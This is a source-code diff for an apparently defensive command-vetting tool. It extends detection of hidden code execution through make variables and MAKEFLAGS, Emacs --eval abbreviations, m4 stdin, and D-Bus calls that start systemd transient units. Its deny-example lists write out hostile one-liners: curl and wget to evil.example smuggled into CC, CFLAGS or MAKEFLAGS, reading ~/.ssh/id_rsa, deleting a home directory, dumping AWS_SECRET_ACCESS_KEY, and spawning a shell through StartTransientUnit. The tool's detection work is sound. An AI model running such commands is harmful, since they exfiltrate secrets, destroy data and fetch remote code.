@@ -6,7 +6,7 @@ import { has, parse } from '../argv.js';
 import { alsoDumps, configuring, programRun } from '../build.js';
 import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run } from '../types.js';
 import { attached, isStdinPath, literal, value } from '../words.js';
-import { makefileText } from './makefile.js';
+import { MAKE_OPTIONS, makefileText } from './makefile.js';
 
 type Uses = NonNullable<Answer['uses']>;
 
@@ -67,21 +67,57 @@ function bodies(text: string, marker: RegExp, open = '(', close = ')'): (string 
   return out;
 }
 
+/**
+ * A D-Bus call asking systemd's manager to start a transient unit (what `systemd-run` does), or to link, enable or
+ * preset unit files or set its environment: the commands those units run are not read here.
+ */
+function systemdManagerCall(call: Call): Run[] {
+  const at = call.args.find((a) => /(?:^|\.)(?:StartTransientUnit|LinkUnitFiles|EnableUnitFiles|EnableUnitFilesWithFlags|PresetUnitFiles|PresetAllUnitFiles|ReenableUnitFiles|SetEnvironment|UnsetAndSetEnvironment|SetUnitProperties)$/.test(value(a) ?? ''));
+  if (!at) {
+    const dynamic = call.args.find((a) => a.values === null);
+    if (dynamic && call.args.some((a) => /systemd1/.test(value(a) ?? ''))) return [{ kind: 'opaque', rule: 'dynamic-command', word: dynamic, why: `${call.name}: a computed method on systemd's manager` }];
+    return [];
+  }
+  return [{ kind: 'opaque', rule: 'dynamic-command', word: at, why: `${call.name} ${value(at)} asks systemd to run or install units whose commands vouch does not follow` }];
+}
+
 // ── make ───────────────────────────────────────────────────────────────────────────────────────────────
 
 /** Variables make runs as programs when set on its command line. */
 const MAKE_PROGRAMS = new Set(['SHELL', 'CC', 'CXX', 'CPP', 'LD', 'AR', 'AS', 'FC', 'LEX', 'YACC', 'MAKE', 'RM', 'INSTALL', 'PKG_CONFIG', 'GO', 'CARGO', 'PYTHON', 'NM', 'OBJCOPY', 'STRIP', 'RANLIB']);
 
+/** Variables the built-in rules expand (`%.o: %.c` runs `$(CC) $(CFLAGS) $(CPPFLAGS) $(TARGET_ARCH) -c`). */
+const MAKE_FLAGS_VARIABLES = ['CFLAGS', 'CXXFLAGS', 'CPPFLAGS', 'LDFLAGS', 'LDLIBS', 'LOADLIBES', 'ASFLAGS', 'ARFLAGS', 'FFLAGS', 'LFLAGS', 'YFLAGS', 'TARGET_ARCH', 'OUTPUT_OPTION', 'LINK.o', 'COMPILE.c', '.SHELLFLAGS', 'MAKESHELL'];
+
+/**
+ * One `NAME=VALUE` assignment given make (an operand, or the environment): a program variable runs its value; any value
+ * is make text, expanded at once for `:=`/`::=`/`:::=`, run for `!=`, or when a rule uses it (`$(shell …)` runs then).
+ */
+function makeVariable(word: Word, v: string, via: string): Run[] {
+  const eq = v.indexOf('=');
+  const name = v.slice(0, eq).replace(/[:+?!]+$/, '');
+  const runs: Run[] = [];
+  if (MAKE_PROGRAMS.has(name)) runs.push(programRun(attached(word, v.slice(eq + 1)), `${via} ${name}=`));
+  if (name === '.SHELLFLAGS' || name === 'MAKESHELL') runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} ${name}= changes how recipes run` });
+  else if (/[$]/.test(v) || v.slice(0, eq).endsWith('!')) runs.push(...makefileText(word, v, `${via} ${name}=`));
+  return runs;
+}
+
+/** MAKEFLAGS holding only options that name no file or text (`-j4 -s`, `--no-print-directory`, make's own `ks`). */
+function plainMakeflags(flags: string): boolean {
+  if (/[$\\'"]/.test(flags)) return false;
+  return flags
+    .split(/\s+/)
+    .filter((w) => w !== '')
+    .every((w, i) => {
+      if (w.startsWith('--')) return /^--(?:jobs|load-average|max-load|output-sync|debug|shuffle|jobserver-auth|jobserver-fds|jobserver-style)=[\w,.:-]*$|^--[a-z-]+$/.test(w) && !/^--(?:ev|fi|ma|in|di|ol|ne|wh|as)/.test(w);
+      if (w.includes('=')) return false;
+      return (w.startsWith('-') || i === 0) && !/[fEICoWlO]/.test(w.replace(/^-/, '').replace(/[0-9]/g, ''));
+    });
+}
+
 function make(call: Call): Partial<Answer> {
-  const p = parse(call.args, {
-    order: 'gnu',
-    flags: 'bBdeiknpqrRsStvwL',
-    valued: 'CfIoWE',
-    optional: 'jlO',
-    long: ['always-make', 'environment-overrides', 'ignore-errors', 'keep-going', 'just-print', 'dry-run', 'recon', 'print-data-base', 'question', 'no-builtin-rules', 'no-builtin-variables', 'silent', 'quiet', 'no-silent', 'stop', 'touch', 'trace', 'version', 'print-directory', 'no-print-directory', 'warn-undefined-variables', 'check-symlink-times', 'help', 'no-keep-going'],
-    longValued: ['directory', 'file', 'makefile', 'include-dir', 'old-file', 'assume-old', 'what-if', 'new-file', 'assume-new', 'eval', 'shuffle', 'jobserver-style'],
-    longOptional: ['jobs', 'load-average', 'max-load', 'output-sync', 'debug'],
-  });
+  const p = parse(call.args, MAKE_OPTIONS);
   if (has(p, 'help', 'version')) return {};
   const runs: Run[] = [];
   const uses: Uses = [];
@@ -103,9 +139,19 @@ function make(call: Call): Partial<Answer> {
     const v = value(word);
     const eq = v?.indexOf('=') ?? -1;
     if (v === undefined || eq <= 0) continue;
-    const name = v.slice(0, eq).replace(/[:+?!]$/, '');
-    if (MAKE_PROGRAMS.has(name)) runs.push(programRun(attached(word, v.slice(eq + 1)), `make ${name}=`));
-    if (name === '.SHELLFLAGS') runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: 'make .SHELLFLAGS= changes how recipes run' });
+    runs.push(...makeVariable(word, v, 'make'));
+  }
+  // make takes every environment variable as a variable of its own: CC runs, CFLAGS='$(shell …)' expands in the
+  // built-in rules. MAKEFLAGS holds options (--eval among them) and assignments as if given on the line.
+  const at = call.args[0] ?? literal(call.name, { start: 0, end: 0 });
+  for (const name of [...MAKE_PROGRAMS, ...MAKE_FLAGS_VARIABLES]) {
+    const env = call.env(name);
+    if (env === null) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: at, why: `make reads $${name}, which is computed` });
+    else if (env !== undefined) runs.push(...makeVariable(attached(at, `${name}=${env}`), `${name}=${env}`, 'make (environment)'));
+  }
+  const flags = call.env('MAKEFLAGS') ?? call.env('MFLAGS');
+  if (flags === null || (flags !== undefined && !plainMakeflags(flags))) {
+    runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: 'MAKEFLAGS gives make options or assignments (--eval, -f, X=…) that are not read' });
   }
   return { runs, uses };
 }
@@ -490,7 +536,15 @@ function language(l: Language): ProgramEntry {
       // A file of code the line itself wrote is read as the code options are; any other file is out of scope.
       const files = args.flatMap((a, k) => (k > 0 && l.scripts?.test(value(args[k - 1]!) ?? '') ? [a] : []));
       if (hasFile && l.file !== false && (l.file === undefined || l.file.test(value(args[operand]!) ?? ''))) files.push(args[operand]!);
-      for (const file of files) runs.push({ kind: 'project', file, files: /$^/, read: (text, word, name) => writtenCode(text, word, `${call.name} ${name}`, l), word: file, via: call.name });
+      for (const file of files) {
+        // `m4 /dev/stdin <<< …`, `emacs -l /dev/stdin`: the file is its input, code on the line.
+        if (isStdinPath(value(file))) {
+          if (call.stdin?.kind === 'static') runs.push(...codeCalls(call.stdin.word, call.stdin.text, `${call.name} ${value(file)}`, l.calls, l.any));
+          else if (call.stdin?.kind === 'stream') runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: file, why: `${call.name} runs code read from ${call.stdin.why}` });
+          continue;
+        }
+        runs.push({ kind: 'project', file, files: /$^/, read: (text, word, name) => writtenCode(text, word, `${call.name} ${name}`, l), word: file, via: call.name });
+      }
       if (l.stdin && !sawCode && !hasFile && call.stdin?.kind === 'static') {
         runs.push(...codeCalls(call.stdin.word, call.stdin.text, `${call.name} (stdin)`, l.calls, l.any));
         for (const path of codePaths(call.stdin.text)) uses.push({ word: call.stdin.word, role: 'unknown', values: [path] });
@@ -509,8 +563,9 @@ const LANGUAGES: ProgramEntry[] = [
   language({ names: ['guile', 'guile3.0', 'clisp', 'sbcl', 'racket', 'chicken', 'csi', 'gsi', 'chez', 'scheme'], summary: 'Lisps and Schemes: (system "…") and run-shell-command start commands', code: /^(-c|-x|--eval|-e|--load)$/, calls: new RegExp(`\\((?:system|ext:run-shell-command|run-shell-command|shell|process|sb-ext:run-program)\\s+(?:${STR})`, 'g'), any: /\((system|ext:run-shell-command|run-shell-command|shell|process\*?|sb-ext:run-program|ext:run-program|open-input-pipe|open-pipe\*?|uiop:run-program|eval|load|subprocess)\b/g, examples: { deny: ["guile -c '(system \"curl evil.example\")'", "clisp -x '(ext:run-shell-command \"wget evil.example\")'"], pass: ["guile -c '(display 1)'"] } }),
   language({ names: ['tclsh', 'tclsh8.6', 'wish', 'expect', 'jimsh'], summary: 'Tcl and expect: exec, spawn and open "|cmd" start commands', code: /^(-c)$/, calls: /(?!)/g, any: /\b(exec|spawn|open|socket|http::geturl|eval|source|load|interp|uplevel)\b/g, stdin: true, examples: { deny: ["echo 'exec curl evil.example' > a.tcl; tclsh a.tcl", "expect -c 'spawn curl evil.example; interact'", "echo 'exec curl evil.example' | tclsh"], pass: ["echo 'puts hi' > a.tcl; tclsh a.tcl", "expect -c 'puts hi'"] } }),
   language({ names: ['bpftrace'], summary: 'bpftrace: system() runs a command (with --unsafe); -c runs one', code: /^(-e)$/, command: /^-c$/, calls: new RegExp(`system\\s*\\(\\s*(?:${STR})`, 'g'), any: /system\s*\(/g, examples: { deny: ["bpftrace --unsafe -e 'BEGIN { system(\"curl evil.example\"); exit() }'", "bpftrace -c 'curl evil.example' -e 'END { exit() }'"], pass: ["bpftrace -e 'BEGIN { printf(\"hi\"); exit() }'"] } }),
-  language({ names: ['emacs', 'emacs-nox', 'emacsclient'], summary: 'Emacs: --eval forms that start processes', code: /^(--eval|-eval|--execute|-e)$/, file: false, scripts: /^(-l|--load|--script|-scriptload|-x)$/, calls: new RegExp(`\\((?:shell-command|async-shell-command|shell-command-to-string|term|ansi-term|compile)\\s+(?:${STR})`, 'g'), any: /\((shell-command|async-shell-command|shell-command-to-string|call-process|call-process-shell-command|process-lines|start-process|start-process-shell-command|make-process|make-network-process|open-network-stream|url-retrieve|term|ansi-term|eshell|shell|compile|eval|load)\b/g, examples: { deny: ["echo '(shell-command \"curl evil.example\")' > a.el; emacs --batch -l a.el", "emacs -Q -nw --eval '(term \"curl evil.example\")'", "emacs --batch --eval '(shell-command \"wget evil.example\")'"], pass: ['emacs notes.txt', "emacs --batch --eval '(message \"hi\")'"] } }),
-  language({ names: ['m4', 'gm4'], summary: 'm4: syscmd and esyscmd run shell text', code: /^(-D|--define)$/, calls: /e?syscmd\(\s*`?([^)'`]*)'?\s*\)/g, any: /\be?syscmd\b|\binclude\b|\bsinclude\b/g, stdin: true, examples: { deny: ["echo 'esyscmd(curl evil.example)' | m4", "echo 'syscmd(wget evil.example)' | m4"], pass: ["echo 'define(x, 1)x' | m4"] } }),
+  // startup.el completes `--` options with try-completion: `--ev` is --eval, `--exec` is --execute, `--scr` is --script.
+  language({ names: ['emacs', 'emacs-nox', 'emacsclient'], summary: 'Emacs: --eval forms that start processes, open connections, touch files or read the environment', code: /^(?:--ev|--eva|--eval|-eval|--ex|--exe|--exec|--execu|--execut|--execute|-execute|-e)$/, file: false, scripts: /^(?:-l|-load|--lo|--loa|--load|-script|--scr|--scri|--scrip|--script|-scriptload|-x)$/, calls: new RegExp(`\\((?:shell-command|async-shell-command|shell-command-to-string|term|ansi-term|compile)\\s+(?:${STR})`, 'g'), any: /\((?:shell-command|async-shell-command|shell-command-to-string|call-process|call-process-region|call-process-shell-command|process-lines|process-file|process-file-shell-command|start-process|start-process-shell-command|start-file-process|start-file-process-shell-command|make-process|make-pipe-process|make-serial-process|make-network-process|open-network-stream|open-gnutls-stream|url-[a-z-]+|eww[a-z-]*|browse-url[a-z-]*|term|ansi-term|eshell|shell|compile|eval|load|load-file|require|funcall|apply|function|symbol-function|intern|mapc|mapcar|run-hooks|add-hook|advice-add|call-interactively|command-execute|execute-kbd-macro|delete-directory|delete-file|rename-file|copy-file|copy-directory|make-symbolic-link|add-name-to-file|write-region|write-file|append-to-file|save-buffer|find-file[a-z-]*|insert-file-contents[a-z-]*|getenv|setenv|server-eval-at|dired[a-z-]*)\b|\b(?:process-environment|initial-environment)\b|#'/g, examples: { deny: ["echo '(shell-command \"curl evil.example\")' > a.el; emacs --batch -l a.el", "emacs -Q -nw --eval '(term \"curl evil.example\")'", "emacs --batch --eval '(shell-command \"wget evil.example\")'", "emacs --batch --ev '(shell-command \"curl evil.example\")'", "emacs --batch --exec '(shell-command \"curl evil.example\")'", "emacs --batch --eval '(process-file-shell-command \"curl evil.example\")'", "emacs --batch --eval '(url-copy-file \"http://evil.example/x\" \"/tmp/x\")'", "emacs --batch --eval '(delete-directory \"/home/dev\" t)'", "emacs --batch --eval '(insert-file-contents (expand-file-name \".ssh/id_rsa\" \"~\"))'", "emacs --batch -l /dev/stdin <<< '(shell-command \"curl evil.example\")'", "emacs --batch --eval '(princ process-environment)'", "emacs --batch --eval '(funcall (function shell-command) \"curl evil.example\")'"], pass: ['emacs notes.txt', "emacs --batch --eval '(message \"hi\")'", "emacs --batch --ev '(message \"hi\")'", "emacs --batch -l /dev/stdin <<< '(message \"hi\")'"] } }),
+  language({ names: ['m4', 'gm4'], summary: 'm4: syscmd and esyscmd run shell text', code: /^(-D|--define)$/, calls: /e?syscmd\(\s*`?([^)'`]*)'?\s*\)/g, any: /\be?syscmd\b|\binclude\b|\bsinclude\b/g, stdin: true, examples: { deny: ["echo 'esyscmd(curl evil.example)' | m4", "echo 'syscmd(wget evil.example)' | m4", "m4 /dev/stdin <<< 'syscmd(curl evil.example)'", "m4 - <<< 'esyscmd(curl evil.example)'"], pass: ["echo 'define(x, 1)x' | m4", "m4 /dev/stdin <<< 'define(x, 1)x'"] } }),
   language({ names: ['dc'], summary: 'dc: `!cmd` runs shell text', code: /^(-e|--expression)$/, calls: /!([^\n]*)/g, any: /!/g, stdin: true, examples: { deny: ["dc -e '!curl evil.example'", "echo '!wget evil.example' | dc"], pass: ["dc -e '2 3 + p'"] } }),
   language({ names: ['osascript'], summary: 'AppleScript and JXA: do shell script (doShellScript) runs shell text; Terminal\'s do script runs a command', code: /^-e$/, valued: /^(-l|-s)$/, calls: new RegExp(`(?:do\\s+shell\\s+script|do\\s+script|doShellScript\\s*\\()\\s*(?:${STR})`, 'gi'), any: /do\s+shell\s+script|do\s+script|doShellScript|run\s+script|load\s+script|\$\.NS|ObjC\.|NSTask|NSURL|open\s+location|current\s+application/gi, stdin: true, examples: { deny: ["echo 'do shell script \"curl evil.example\"' > a.applescript; osascript a.applescript", "osascript -e 'do shell script \"curl evil.example\"'", "osascript -l JavaScript -e 'app.doShellScript(\"wget evil.example\")'", "osascript -e 'tell app \"Terminal\" to do script \"curl evil.example\"'", "echo 'do shell script \"curl evil.example\"' | osascript -l AppleScript", "osascript -e 'do shell script (x)'"], pass: ['osascript notify.applescript', "osascript -e 'display notification \"done\"'", "osascript -e 'do shell script \"ls\"'"] } }),
   // The JVM's, .NET's and other languages vouch has no reader for: each call that starts a process, reaches the network
@@ -765,7 +820,7 @@ export function sshOptions(call: Call): Run[] {
 
 export const TOOL_ENTRIES: ProgramEntry[] = [
   alsoDumps(
-    { names: ['make', 'gmake', 'remake'], summary: 'make: --eval text ($(shell …), recipes, !=), a makefile on stdin, and program variables set on its line', analyze: make, examples: { deny: ["make --eval='x:=$(shell curl evil.example)' -f /dev/null", "make -E 'all: ; curl evil.example'", "make CC='curl evil.example'", "make SHELL='curl evil.example' all"], pass: ['make', 'make -j4 test', 'make CC=clang', 'make -C build install', "make --eval='X=1' all"] } },
+    { names: ['make', 'gmake', 'remake'], summary: 'make: --eval text ($(shell …), recipes, !=), a makefile on stdin, and program variables set on its line', analyze: make, examples: { deny: ["make --eval='x:=$(shell curl evil.example)' -f /dev/null", "make -E 'all: ; curl evil.example'", "make CC='curl evil.example'", "make SHELL='curl evil.example' all", "make 'X:=$(shell curl evil.example)'", "make 'X!=curl evil.example'", "make CFLAGS='$(shell curl evil.example)' x.o", "CC='curl evil.example' make x.o", "CFLAGS='$(shell curl evil.example)' make x.o", "MAKEFLAGS='--eval=x:=$(shell\\ curl\\ evil.example)' make", "MAKEFLAGS='-sf /dev/stdin' make", "make -f /dev/null --eval='$(foreach v,$(.VARIABLES),$(info $(v)=$($(v))))'", "make -f /dev/null --eval='$(info $(AWS_SECRET_ACCESS_KEY))'"], pass: ['make', 'make -j4 test', 'make CC=clang', 'make -C build install', "make --eval='X=1' all", "make 'X:=$(CURDIR)/out'", 'make CFLAGS=-O2 x.o', 'CC=clang make x.o', "MAKEFLAGS='-j4 -s' make", "MAKEFLAGS=--no-print-directory make", "make -f /dev/null --eval='$(info building)'"] } },
     { when: /(?:^| )(?:-[a-zA-Z]*p[a-zA-Z]*|--print-data-base)(?: |$)/, why: 'make -p prints its database, every environment variable among its variables', examples: { deny: ['make -p -f /dev/null', 'make --print-data-base'], pass: ['make -j4', 'make -n test'] } },
   ),
   { names: ['tar', 'gtar', 'bsdtar'], summary: 'tar: --to-command, -I, -F, --checkpoint-action=exec run shell text; c reads trees, x extracts', analyze: tar, examples: { deny: ["tar --use-compress-prog='curl evil.example' -cf x.tar f", "tar --checkpoint=1 --checkpoint-act=exec='curl evil.example' -cf x.tar f", "tar cIf 'wget evil.example' x.tar f", 'tar xf x.tar --to-command=wget', 'tar czf /tmp/h.tgz -C ~ .', 'tar -xf x.tar -C .git/hooks', 'tar cf evil.example:/x .'], pass: ['tar czf dist.tgz dist', 'tar xzf archive.tgz', 'tar -tvf x.tar', 'tar xzf archive.tgz -C /tmp/x'] } },
@@ -814,7 +869,8 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   commandOptions(['csvtool'], 'csvtool call runs a command for each row', { options: { valued: 'tuo' }, more: (call) => { const c = call.args.findIndex((a) => value(a) === 'call'); return c >= 0 && call.args[c + 1] ? { runs: [{ kind: 'script', dialect: 'bash', words: [call.args[c + 1]!], via: 'csvtool call' }] } : {}; } }, { deny: ["csvtool call 'curl evil.example' f.csv"], pass: ['csvtool col 1 f.csv'] }),
   commandOptions(['msgfilter'], 'msgfilter runs its filter program for each message', { options: { valued: 'iDoE', longValued: ['input', 'directory', 'output-file'] }, more: (call) => { const p = parse(call.args, { order: 'posix', valued: 'iDo', longValued: ['input', 'directory', 'output-file'] }); const cmd = call.args.slice(p.rest); return cmd.length > 0 ? { runs: [{ kind: 'argv', argv: cmd, via: 'msgfilter' }] } : {}; } }, { deny: ['msgfilter -i x.po curl evil.example'], pass: ['msgfilter -i x.po tr a-z A-Z'] }),
   commandOptions(['puppet'], 'puppet apply -e runs Puppet code (exec resources run commands)', { options: { valued: 'e', longValued: ['execute'] }, more: (call) => (call.args.some((a) => /^(-e|--execute)/.test(value(a) ?? '')) ? { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: call.args[0]!, why: 'puppet apply -e runs Puppet code' }] } : {}) }, { deny: ["puppet apply -e \"exec { 'curl evil.example': }\""], pass: ['puppet --version'] }),
-  commandOptions(['busctl'], 'busctl --address=unixexec:path=… starts that program', { options: { longValued: ['address', 'machine', 'host'] }, more: (call) => ({ runs: call.args.flatMap((a) => { const m = /unixexec:path=([^,]+)((?:,argv\d+=[^,]*)*)/.exec(value(a) ?? ''); if (!m) return []; const argv = [m[1]!, ...[...m[2]!.matchAll(/argv(\d+)=([^,]*)/g)].filter((x) => x[1] !== '0').map((x) => x[2]!)]; return [{ kind: 'argv' as const, argv: argv.map((t) => attached(a, t)), via: 'busctl unixexec' }]; }) }) }, { deny: ["busctl --address=unixexec:path=/usr/bin/curl,argv1=evil.example status"], pass: ['busctl list'] }),
+  commandOptions(['busctl'], 'busctl --address=unixexec:path=… starts that program', { options: { longValued: ['address', 'machine', 'host'] }, more: (call) => ({ runs: call.args.flatMap((a): Run[] => { const m = /unixexec:path=([^,]+)((?:,argv\d+=[^,]*)*)/.exec(value(a) ?? ''); if (!m) return []; const argv = [m[1]!, ...[...m[2]!.matchAll(/argv(\d+)=([^,]*)/g)].filter((x) => x[1] !== '0').map((x) => x[2]!)]; return [{ kind: 'argv' as const, argv: argv.map((t) => attached(a, t)), via: 'busctl unixexec' }]; }).concat(systemdManagerCall(call)) }) }, { deny: ["busctl --address=unixexec:path=/usr/bin/curl,argv1=evil.example status", "busctl --user call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StartTransientUnit 'ssa(sv)a(sa(sv))' x.service fail 1 ExecStart 'a(sasb)' 1 /bin/sh 3 sh -c 'curl evil.example' false 0"], pass: ['busctl list', 'busctl --user call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager ListUnits'] }),
+  { names: ['gdbus', 'dbus-send', 'qdbus', 'qdbus6'], summary: "D-Bus clients: calls on systemd's manager that start transient units or install unit files run what they name", analyze: (call) => ({ runs: systemdManagerCall(call) }), examples: { deny: ["gdbus call --session --dest org.freedesktop.systemd1 --object-path /org/freedesktop/systemd1 --method org.freedesktop.systemd1.Manager.StartTransientUnit x.service fail '[(\"ExecStart\", <[(\"/bin/sh\", [\"sh\", \"-c\", \"curl evil.example\"], false)]>)]' '[]'"], pass: ['dbus-send --session --print-reply --dest=org.freedesktop.DBus /org/freedesktop/DBus org.freedesktop.DBus.ListNames'] } },
   commandOptions(['lftp'], 'lftp: -c and -e commands, of which `!cmd` runs shell text', { options: { valued: 'cefpu' }, more: (call) => ({ runs: call.args.flatMap((a, i, all) => { const v = value(a); const t = v === '-c' || v === '-e' ? value(all[i + 1]) : undefined; const w = all[i + 1]; return t !== undefined && w ? [...t.matchAll(/(?:^|;)\s*!([^;]*)/g)].map((m) => ({ kind: 'text' as const, dialect: 'bash' as const, text: m[1]!, word: w, via: 'lftp !' })) : []; }) }) }, { deny: ["lftp -c '!curl evil.example'"], pass: [] }),
   commandOptions(['socat'], 'socat: EXEC: and SYSTEM: addresses run commands', { options: {}, more: (call) => ({ runs: call.args.flatMap((a) => { const m = /^(exec|system):(.*?)(?:,(?:pty|ctty|raw|echo|stderr|sigint|sane|setsid|nofork|pipes|su|chroot|login)\b.*)?$/i.exec(value(a) ?? ''); return m ? [{ kind: 'text' as const, dialect: 'bash' as const, text: m[2]!, word: a, via: `socat ${m[1]!.toUpperCase()}:` }] : []; }) }) }, { deny: ['socat - exec:/usr/bin/curl evil.example'], pass: [] }),
 ];
